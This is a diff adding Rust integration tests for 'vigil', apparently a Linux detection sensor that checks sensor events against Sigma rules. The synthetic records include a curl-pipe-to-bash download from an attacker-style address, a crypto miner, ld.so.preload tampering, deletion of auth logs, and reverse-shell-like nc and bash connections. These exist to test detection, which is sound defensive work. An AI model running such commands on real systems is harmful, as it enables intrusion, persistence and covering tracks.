@@ -48,3 +48,199 @@ fn a_closed_output_pipe_ends_match_quietly() {
     );
     assert!(!stderr.contains("panicked"), "{stderr}");
 }
+
+fn vigil(args: &[&std::ffi::OsStr]) -> std::process::Output {
+    Command::new(env!("CARGO_BIN_EXE_vigil"))
+        .args(args)
+        .output()
+        .expect("run vigil")
+}
+
+/// `vigil rules check` says, after the load report, how many rules the
+/// sensor can feed and why not the others; rules it cannot feed do not
+/// change the exit status, rejected ones do.
+#[test]
+fn check_reports_what_the_sensor_can_feed() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).expect("rule");
+    write(
+        "a.yml",
+        "title: a\nid: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /id}, condition: s}\n",
+    );
+    write(
+        "b.yml",
+        "title: b\nid: b\nlogsource: {product: linux, service: syslog}\ndetection: {s: [segfault], condition: s}\n",
+    );
+    write(
+        "c.yml",
+        "title: c\nid: c\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: SYSCALL, key: k}, condition: s}\n",
+    );
+    let out = vigil(&["rules".as_ref(), "check".as_ref(), dir.path().as_os_str()]);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{stdout}");
+    assert!(stdout.contains("3 loaded, 0 rejected"), "{stdout}");
+    assert!(
+        stdout.contains("sensor can feed 1 of 3 rules; not fed: 2 (linux/service=syslog not collected: 1, field `key` not provided for linux/service=auditd: 1)"),
+        "{stdout}"
+    );
+    let out = vigil(&[
+        "rules".as_ref(),
+        "check".as_ref(),
+        "--json".as_ref(),
+        dir.path().as_os_str(),
+    ]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON object");
+    assert_eq!(v["coverage"]["fed"], 1);
+    assert_eq!(v["coverage"]["not_fed"], serde_json::json!(["b", "c"]));
+    assert_eq!(v["coverage"]["reasons"][1]["field"], "key");
+    assert_eq!(v["coverage"]["reasons"][1]["rules"], 1);
+    write(
+        "d.yml",
+        "title: d\nlogsource: {product: linux}\ndetection: {condition: s}\n",
+    );
+    let out = vigil(&["rules".as_ref(), "check".as_ref(), dir.path().as_os_str()]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("sensor can feed 1 of 3 rules"));
+}
+
+/// Sensor records written as JSON lines and matched by `vigil rules match`
+/// fire exactly the rules the sensor's evaluator fires on the records.
+#[test]
+fn sensor_json_lines_match_as_the_sensor_decided() {
+    use std::sync::Arc;
+    use vigil_proto::v1::{
+        Direction, FileEvent, FileOperation, NetworkConnection, Path as PbPath, ProcessRef,
+        ProcessStart, Record, TransportProtocol, record::Payload,
+    };
+    let rules = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
+    let corpus = std::env::var_os("VIGIL_SIGMA_CORPUS")
+        .map(std::path::PathBuf::from)
+        .unwrap_or_else(|| {
+            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/sigma")
+        })
+        .join("rules/linux");
+    let mut paths = vec![rules];
+    if corpus.is_dir() {
+        paths.push(corpus);
+    } else {
+        eprintln!("Sigma corpus not found: Vigil's own rules only (set VIGIL_SIGMA_CORPUS)");
+    }
+    let (set, report) = vigil_rules::RuleSet::load_paths(&paths);
+    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
+    let set = Arc::new(set);
+    let pb = |p: &str| {
+        Some(PbPath {
+            text: p.into(),
+            ..Default::default()
+        })
+    };
+    let pref = |pid: u32, exe: &str, cmd: &str| ProcessRef {
+        guid: format!("g{pid}"),
+        pid,
+        executable: pb(exe),
+        command_line: cmd.into(),
+    };
+    let start = |pid: u32, exe: &str, argv: &[&str], missing: bool| {
+        Payload::ProcessStart(ProcessStart {
+            guid: format!("g{pid}"),
+            pid,
+            parent_pid: 1,
+            executable: pb(exe),
+            argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
+            command_line: argv.join(" "),
+            argv_missing: missing,
+            user_name: "root".into(),
+            parent: Some(pref(1, "/usr/bin/bash", "bash -i")),
+            ..Default::default()
+        })
+    };
+    let file = |op: FileOperation, path: &str, exe: &str| {
+        Payload::File(FileEvent {
+            operation: op as i32,
+            path: pb(path),
+            process: Some(pref(50, exe, exe)),
+            persistence: "cron".into(),
+            ..Default::default()
+        })
+    };
+    let net = |exe: &str, remote: &str, port: u32| {
+        Payload::Network(NetworkConnection {
+            protocol: TransportProtocol::Tcp as i32,
+            direction: Direction::Outbound as i32,
+            local_address: "10.0.0.5".into(),
+            local_port: 40000,
+            remote_address: remote.into(),
+            remote_port: port,
+            process: Some(pref(60, exe, exe)),
+            ..Default::default()
+        })
+    };
+    let payloads = vec![
+        start(
+            10,
+            "/usr/bin/curl",
+            &["curl", "-s", "http://203.0.113.9/x.sh", "|", "bash"],
+            false,
+        ),
+        start(11, "/usr/bin/whoami", &["whoami"], false),
+        start(12, "/tmp/xmrig", &["./xmrig", "--cpu-priority", "5"], false),
+        start(13, "/usr/bin/kworker", &[], true),
+        start(14, "/usr/bin/chmod", &["chmod", "+x", "/tmp/x"], false),
+        file(FileOperation::Create, "/etc/cron.d/x", "/usr/bin/vi"),
+        file(FileOperation::Modify, "/etc/ld.so.preload", "/usr/bin/tee"),
+        file(FileOperation::Delete, "/var/log/auth.log", "/usr/bin/rm"),
+        Payload::ProcessExit(Default::default()),
+        net("/usr/bin/bash", "203.0.113.9", 4444),
+        net("/tmp/.x/nc", "198.51.100.1", 3333),
+        Payload::Health(Default::default()),
+    ];
+    let mut evaluator =
+        vigil_evaluate::Evaluator::new(Arc::clone(&set), vigil_rules::EngineConfig::default());
+    let mut expected: Vec<(usize, String)> = Vec::new();
+    let mut lines = String::new();
+    let mut line_of_record = Vec::new();
+    for (i, p) in payloads.iter().enumerate() {
+        let time = 1_700_000_000_000_000_000 + i as i64 * 1_000_000_000;
+        let record = Record {
+            sequence: i as u64,
+            time_unix_ns: time,
+            payload: Some(p.clone()),
+        };
+        for d in evaluator.evaluate(time, p, &[]) {
+            expected.push((i, d.rule_id));
+        }
+        for l in vigil_evaluate::to_json_lines(&record, &[]) {
+            line_of_record.push(i);
+            lines.push_str(&l.to_string());
+            lines.push('\n');
+        }
+    }
+    assert!(expected.len() >= 8, "{expected:?}");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let events = dir.path().join("sensor.jsonl");
+    std::fs::write(&events, lines).expect("events");
+    let mut args: Vec<&std::ffi::OsStr> = vec!["rules".as_ref(), "match".as_ref()];
+    args.extend(paths.iter().map(|p| p.as_os_str()));
+    args.extend(["--events".as_ref(), events.as_os_str()]);
+    let out = vigil(&args);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    // Lines that are not events are skipped without a word.
+    assert!(!stderr.contains("skipped"), "{stderr}");
+    let mut got: Vec<(usize, String)> = Vec::new();
+    for l in String::from_utf8_lossy(&out.stdout).lines() {
+        let v: serde_json::Value = serde_json::from_str(l).expect("match line");
+        let line = v["event"].as_u64().expect("event line") as usize;
+        let hit = (
+            line_of_record[line],
+            v["rule"].as_str().expect("rule").to_owned(),
+        );
+        // A rule fires once per record, whichever of its lines matched.
+        if !got.contains(&hit) {
+            got.push(hit);
+        }
+    }
+    expected.sort();
+    got.sort();
+    assert_eq!(got, expected);
+}
